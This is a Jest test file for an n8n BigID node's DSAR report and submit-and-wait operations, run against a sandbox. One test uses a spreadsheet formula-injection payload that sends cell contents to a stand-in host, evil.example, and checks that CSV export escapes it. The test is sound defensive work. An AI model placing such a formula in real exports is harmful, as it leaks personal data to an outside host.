import type { IDataObject, INodeExecutionData, INodeParameters } from 'n8n-workflow';

import { sarRecordsAsCsv } from '../../nodes/BigId/model/dsar';
import type { SandboxOptions } from '../../sandbox';
import { dsarApi } from '../../sandbox/entities/dsar/routes';
import { runNode } from '../harness/actionNode';
import { byId, jsonOf } from '../harness/items';
import { useSandboxSession, type SandboxSession } from '../harness/sandbox';
import { MAY_HAVE_HAPPENED } from '../reliability/support';

const SUBMIT = 'POST /api/v1/sar/reports';
const STATUS = 'GET /api/v1/sar/reports/:requestId/status';
const REPORT = 'GET /api/v1/sar/reports/:requestId';
const EMAIL = 'jane.doe@example.com';

const reads = (session: SandboxSession, route: string) => session.sandbox.stats.byRoute[route] ?? 0;

/** A request submitted straight into the sandbox's model, as if through BigID's UI. */
function submitted(session: SandboxSession, email = EMAIL): string {
	const dsar = session.sandbox.store.model(dsarApi);
	return dsar.submit(dsar.profiles[0]._id, [{ attributeName: 'email', attributeValue: email }])
		.requestId;
}

/** Lets the search of every request end, as it does once it has run as long as a scan. */
const searchEnds = (session: SandboxSession) =>
	session.sandbox.store.advanceClock(session.sandbox.options.scanDurationMs);

function recordsOf(session: SandboxSession, requestId: string): IDataObject[] {
	const records = session.sandbox.store.model(dsarApi).find(requestId)?.records;
	if (!records) throw new Error(`${requestId} has no report in the sandbox`);
	return records.map((record) => ({ ...record }));
}

const getReport = async (session: SandboxSession, parameters: INodeParameters) =>
	await runNode(session.credentials, 'dsar', { operation: 'getReport', ...parameters });

async function fileOf(item: INodeExecutionData, field: string) {
	const binary = item.binary?.[field];
	if (!binary) throw new Error(`no binary field ${field}`);
	return { ...binary, text: Buffer.from(binary.data, 'base64').toString('utf8') };
}

describe('DSAR > Get Report', () => {
	const session = useSandboxSession();

	it('outputs one item per record of a completed report, up to Limit, in one request', async () => {
		const requestId = submitted(session);
		searchEnds(session);
		const all = await getReport(session, { requestId, returnAll: true });
		expect(all.error).toBeUndefined();
		const records = recordsOf(session, requestId);
		// The seeded catalog holds the person in several tables of several data sources.
		expect(records.length).toBeGreaterThan(3);
		expect(new Set(records.map((record) => record.source)).size).toBeGreaterThan(1);
		expect(records).toContainEqual(
			expect.objectContaining({ attributeName: 'email', attributeValue: EMAIL }),
		);
		expect(jsonOf(all.items)).toEqual(records);
		const limited = await getReport(session, { requestId, limit: 2 });
		expect(jsonOf(limited.items)).toEqual(records.slice(0, 2));
		expect(reads(session, REPORT)).toBe(2);
		expect(reads(session, STATUS)).toBe(0);
	});

	it('outputs the whole report as one JSON or CSV file', async () => {
		const requestId = submitted(session);
		searchEnds(session);

		const asJson = await getReport(session, { requestId, reportOutput: 'file' });
		expect(asJson.error).toBeUndefined();
		const records = recordsOf(session, requestId);
		expect(asJson.items).toHaveLength(1);
		expect(asJson.items[0].json).toEqual({ requestId, recordCount: records.length });
		const jsonFile = await fileOf(asJson.items[0], 'data');
		expect(jsonFile).toMatchObject({
			fileName: `dsar-${requestId}.json`,
			mimeType: 'application/json',
		});
		expect(JSON.parse(jsonFile.text)).toEqual({
			requestId,
			profileId: session.sandbox.store.model(dsarApi).profiles[0]._id,
			status: 'Completed',
			totalCount: records.length,
			records,
		});

		const asCsv = await getReport(session, {
			requestId,
			reportOutput: 'file',
			fileFormat: 'csv',
			binaryPropertyName: 'report',
			escapeFormulas: false,
		});
		const csvFile = await fileOf(asCsv.items[0], 'report');
		expect(csvFile).toMatchObject({ fileName: `dsar-${requestId}.csv`, mimeType: 'text/csv' });
		const lines = csvFile.text.split('\r\n');
		const columns = Object.keys(records[0]);
		expect(lines[0]).toBe(columns.join(','));
		expect(lines.slice(1, -1)).toEqual(
			records.map((record) => columns.map((column) => String(record[column])).join(',')),
		);
		expect(lines.at(-1)).toBe('');
	});

	it('escapes in CSV what a spreadsheet would run as a formula, by default, and leaves numbers alone', async () => {
		// What a data subject can type into a request form, and BigID finds back in its own tables.
		const hostile = '=HYPERLINK("https://evil.example/?leak="&A1)@example.com';
		const requestId = submitted(session, hostile);
		searchEnds(session);
		const { items } = await getReport(session, {
			requestId,
			reportOutput: 'file',
			fileFormat: 'csv',
		});
		const records = recordsOf(session, requestId);
		const rows = (await fileOf(items[0], 'data')).text.split('\r\n').slice(1, -1);
		const cellOf = (attributeName: string) => {
			const index = records.findIndex((record) => record.attributeName === attributeName);
			expect(index).toBeGreaterThanOrEqual(0);
			return rows[index];
		};
		expect(cellOf('email')).toContain(
			`,"'=HYPERLINK(""https://evil.example/?leak=""&A1)@example.com",`,
		);
		// Counts are numbers: written as they are.
		expect(rows.every((row) => /,\d+$/.test(row))).toBe(true);
		expect(rows.filter((row) => /(^|,)[=+\-@]/.test(row))).toEqual([]);
	});

	it('pairs each file with its input item, and with Continue On Fail outputs the error of a bad one', async () => {
		const requestId = submitted(session);
		searchEnds(session);
		const { items, error } = await runNode(
			session.credentials,
			'dsar',
			{ operation: 'getReport', requestId: '={{ $json.requestId }}', reportOutput: 'file' },
			[{ requestId: 'dsar-9999' }, { requestId }],
			true,
		);
		expect(error).toBeUndefined();
		expect(items.map((item) => item.pairedItem)).toEqual([{ item: 0 }, { item: 1 }]);
		expect(items[0].json.error).toBe('BigID answered 404: DSAR request dsar-9999 was not found');
		expect(items[0].binary).toBeUndefined();
		expect(items[1].json).toEqual({
			requestId,
			recordCount: recordsOf(session, requestId).length,
		});
		expect((await fileOf(items[1], 'data')).fileName).toBe(`dsar-${requestId}.json`);
	});

	it('says a report is not ready yet, with its status, and how to wait for it', async () => {
		const requestId = submitted(session);
		const { error } = await getReport(session, { requestId });
		expect(error?.message).toBe(
			`The DSAR report ${requestId} is not ready yet (status: Pending). Use DSAR > Submit and Wait, or wait and run again.`,
		);
		// BigID's 409 for the report, then the status for what to say.
		expect([reads(session, REPORT), reads(session, STATUS)]).toEqual([1, 1]);
	});

	it('names the fix for an unknown request ID', async () => {
		const { error } = await getReport(session, { requestId: 'dsar-9999' });
		expect(error?.message).toBe('BigID answered 404: DSAR request dsar-9999 was not found');
		expect(error?.description).toMatch(/Check the request ID: it is the requestId DSAR > Submit/);
	});

	it('fails a request BigID gave up on with what BigID said', async () => {
		session.sandbox.store
			.model(dsarApi)
			.failRequestsFor(EMAIL, 'Data source crm-db could not be reached');
		const requestId = submitted(session);
		searchEnds(session);
		const { error } = await getReport(session, { requestId });
		expect(error?.message).toBe(
			`The DSAR request ${requestId} failed: Data source crm-db could not be reached`,
		);
	});

	it('refuses a blank request ID, a bad Limit or a blank file field before any request', async () => {
		const requests = session.sandbox.stats.requests;
		const cases: Array<[INodeParameters, string]> = [
			[{ requestId: ' ' }, 'No DSAR request ID given'],
			[
				{ requestId: 'dsar-0001', limit: 0 },
				'Limit must be a whole number from 1 to 100000, not 0',
			],
			[
				{ requestId: 'dsar-0001', reportOutput: 'file', binaryPropertyName: ' ' },
				'No field given for the report file',
			],
		];
		for (const [parameters, message] of cases) {
			expect((await getReport(session, parameters)).error?.message).toBe(message);
		}
		expect(session.sandbox.stats.requests).toBe(requests);
	});
});

describe('DSAR > Get Report on the other answers BigID may give', () => {
	const session = useSandboxSession({ dsarReportNotReady: 404 });

	it('reads a 404 of a report not ready yet as not ready, from the status', async () => {
		const requestId = submitted(session);
		const { error } = await getReport(session, { requestId });
		expect(error?.message).toMatch(
			`The DSAR report ${requestId} is not ready yet (status: Pending)`,
		);
	});

	it('reads a report answered with a status and no records as not ready', async () => {
		const requestId = submitted(session);
		session.sandbox.transformAnswer = (route, answer) =>
			route === REPORT ? { status: 200, json: { requestId, status: 'in_progress' } } : answer;
		const { error } = await getReport(session, { requestId });
		expect(error?.message).toMatch(/is not ready yet \(status: in_progress\)/);
		expect(reads(session, STATUS)).toBe(0);
	});

	it('reads records at the top level of a bare answer', async () => {
		const requestId = submitted(session);
		const records = [{ attributeName: 'email', attributeValue: EMAIL }];
		session.sandbox.transformAnswer = (route, answer) =>
			route === REPORT ? { status: 200, json: { requestId, records } } : answer;
		const { items, error } = await getReport(session, { requestId });
		expect(error).toBeUndefined();
		expect(jsonOf(items)).toEqual(records);
	});
});

describe('DSAR > Get Report on a BigID without the status endpoint', () => {
	const session = useSandboxSession({ dsarReportStatus: false });

	it('still says a report BigID answers 409 is not ready', async () => {
		const requestId = submitted(session);
		const { error } = await getReport(session, { requestId });
		expect(error?.message).toBe(
			`The DSAR report ${requestId} is not ready yet (status: not given). Use DSAR > Submit and Wait, or wait and run again.`,
		);
	});
});

const submitAndWait = async (session: SandboxSession, parameters: INodeParameters = {}) =>
	await runNode(session.credentials, 'dsar', {
		operation: 'submitAndWait',
		profile: byId(session.sandbox.store.model(dsarApi).profiles[0]._id),
		userValues: { value: [{ attributeName: 'email', attributeValue: EMAIL }] },
		pollInterval: 0.01,
		timeout: 30,
		returnAll: true,
		...parameters,
	});

describe('DSAR > Submit and Wait', () => {
	const session = useSandboxSession({ scanDurationMs: 3_600_000 });

	it('submits once, reads the status until the search completed, and outputs the report', async () => {
		const { items, error } = await submitAndWait(session);
		expect(error).toBeUndefined();
		const [request] = session.sandbox.store.model(dsarApi).requests;
		expect(request.userValues).toEqual([{ attributeName: 'email', attributeValue: EMAIL }]);
		expect(jsonOf(items)).toEqual(recordsOf(session, request.requestId));
		expect(session.sandbox.stats.writes[SUBMIT]).toBe(1);
		// Pending, InProgress, Completed: the sandbox completes a search at its third status read.
		expect(reads(session, STATUS)).toBe(session.sandbox.options.dsarStatusReads);
		expect(reads(session, REPORT)).toBe(1);
	});

	it('outputs the report as a file when asked', async () => {
		const { items } = await submitAndWait(session, { reportOutput: 'file', fileFormat: 'csv' });
		const [request] = session.sandbox.store.model(dsarApi).requests;
		const records = recordsOf(session, request.requestId);
		expect(items.map((item) => item.json)).toEqual([
			{ requestId: request.requestId, recordCount: records.length },
		]);
		expect((await fileOf(items[0], 'data')).text).toBe(
			sarRecordsAsCsv(records, { escapeFormulas: true }),
		);
	});

	it('fails a request BigID gave up on with what BigID said, without reading a report', async () => {
		session.sandbox.store.model(dsarApi).failRequestsFor(EMAIL, 'The profile has no data sources');
		const { error } = await submitAndWait(session);
		expect(error?.message).toBe(
			'The DSAR request dsar-0001 failed: The profile has no data sources',
		);
		expect(session.sandbox.stats.writes[SUBMIT]).toBe(1);
		expect(reads(session, REPORT)).toBe(0);
	});

	it('never submits again when the answer of the submission was lost', async () => {
		session.sandbox.faults.inject({ route: SUBMIT, kind: 'drop', afterHandling: true });
		const { error } = await submitAndWait(session);
		expect(`${error?.message} ${error?.description}`).toMatch(MAY_HAVE_HAPPENED);
		expect(session.sandbox.store.model(dsarApi).requests).toHaveLength(1);
		expect(reads(session, SUBMIT)).toBe(1);
		expect(reads(session, STATUS)).toBe(0);
	});

	it('refuses bad identity values or a Poll Interval of 0 before any request', async () => {
		const requests = session.sandbox.stats.requests;
		const noValues = await submitAndWait(session, { userValues: { value: [] } });
		expect(noValues.error?.message).toBe(
			'Every identity value needs an attribute name and a value',
		);
		const noInterval = await submitAndWait(session, { pollInterval: 0 });
		expect(noInterval.error?.message).toBe('Poll Interval must be more than 0 seconds, not 0');
		expect(session.sandbox.stats.requests).toBe(requests);
	});
});

describe('DSAR > Submit and Wait for a search that does not end', () => {
	const session = useSandboxSession({ dsarStatusReads: Infinity, scanDurationMs: 3_600_000 });

	it('stops at the timeout and names the request ID to read the report with later', async () => {
		const { error } = await submitAndWait(session, { timeout: 0.05 });
		expect(error?.message).toMatch(
			/^The DSAR request dsar-0001 was not ready within 0.05 seconds \(last status: (Pending|InProgress)\)$/,
		);
		expect(error?.description).toMatch(/Run DSAR > Get Report with request ID dsar-0001 later/);
		expect(session.sandbox.stats.writes[SUBMIT]).toBe(1);
		expect(reads(session, STATUS)).toBeGreaterThanOrEqual(1);
		expect(reads(session, REPORT)).toBe(0);
	});
});

describe('DSAR > Submit and Wait on a BigID without the status endpoint', () => {
	const options: SandboxOptions = { dsarReportStatus: false };
	const session = useSandboxSession(options);

	it('says so after the one submission, and how to read the report later', async () => {
		const { error } = await submitAndWait(session);
		expect(error?.message).toMatch(/^This BigID version does not offer DSAR report status/);
		expect(error?.description).toMatch(
			/The DSAR request dsar-0001 was submitted: run DSAR > Get Report with this request ID later/,
		);
		expect(session.sandbox.stats.writes[SUBMIT]).toBe(1);
	});
});
